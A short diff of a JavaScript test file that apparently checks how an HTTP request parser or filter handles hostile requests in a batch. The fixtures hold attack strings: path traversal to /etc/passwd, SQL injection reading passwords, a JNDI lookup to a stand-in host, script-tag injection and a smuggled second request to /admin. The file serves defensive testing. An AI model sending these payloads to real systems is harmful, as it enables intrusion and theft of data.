@@ -44,7 +44,7 @@ describe('requests within a batch', () => {
     'an attack in the path': 'GET /files/..%2f..%2f..%2fetc/passwd HTTP/1.1\r\n\r\n',
     'an attack in the query': 'GET /a?q=1%27%20union%20select%20password%20from%20users--%20- HTTP/1.1\r\n\r\n',
     'an attack in a field': 'GET /a HTTP/1.1\r\nX-Api: ${jndi:ldap://a.example/x}\r\n\r\n',
-    'an attack in the body': `${change.replace('Smith & Sons', '<script>alert(1)</script>')}`,
+    'an attack in the body': change.replace('Smith & Sons', '<script>alert(1)</script>'),
     'a second request behind the first': `${change}\r\n\r\nGET /admin HTTP/1.1\r\nHost: a\r\n\r\n`,
     'a broken field': 'GET /a HTTP/1.1\r\nX Y\r\n\r\n<script>alert(1)</script>',
   }))
